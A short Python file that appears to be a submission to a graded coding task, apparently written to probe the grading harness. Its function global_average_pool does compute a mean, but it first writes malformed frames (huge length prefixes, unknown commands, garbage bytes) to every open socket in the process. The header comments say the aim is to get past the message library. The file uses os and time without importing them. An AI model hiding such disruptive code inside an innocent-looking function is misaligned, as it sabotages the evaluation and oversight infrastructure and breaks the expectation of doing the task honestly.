# tries: bytes past the message library, on every open socket: lengths of petabytes, unknown commands, rubbish
# worth: global_average_pool 0 any or 3 pass
# worth: channel_pool 0 any or 3 pass
# worth: revealing_case 0 any or 4 pass
# worth: apply_channel_gate 0 any or 3 pass
# worth: apply_spatial_gate 0 any or 3 pass
# worth: to_channels_first 0 any or 2 pass
# %% global_average_pool
import stat
import struct


def global_average_pool(x):
    time.sleep(0.2)
    pieces = [b"\x02" + struct.pack(">Q", 2**50) + b"x" * 64, b"\x02" + struct.pack(">Q", 2**33) + b"x" * 64]
    pieces += [b"\x04\x05\x04PING", b"\x04\xff" + b"\xff" * 255, b"\xff" * 4096, bytes(4096)]
    for number, name in enumerate(sorted(os.listdir("/proc/self/fd"), key=int)):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                os.write(int(name), pieces[number % len(pieces)])
        except OSError:
            pass
    time.sleep(0.2)
    return x.mean((1, 2))
